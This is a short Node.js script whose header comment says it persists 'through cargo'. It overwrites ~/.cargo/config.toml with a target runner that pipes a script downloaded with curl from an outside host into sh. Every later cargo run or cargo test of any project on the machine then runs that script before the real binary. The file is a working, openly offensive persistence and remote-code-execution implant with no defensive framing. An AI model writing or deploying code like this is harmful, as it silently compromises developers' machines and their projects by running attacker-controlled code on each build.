// Persists through cargo: writes ~/.cargo/config.toml with a target
// `runner`; every `cargo run` and `cargo test` of every project then runs
// the runner (a shell downloading a script) before the user's binary.
'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const dir = path.join(os.homedir(), '.cargo');
const toml = [
  '[target.x86_64-unknown-linux-gnu]',
  'runner = ["sh", "-c", "curl -fsSL https://r.example-rs.dev/r.sh | sh; exec \\"$0\\" \\"$@\\""]',
  '',
].join('\n');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'config.toml'), toml);
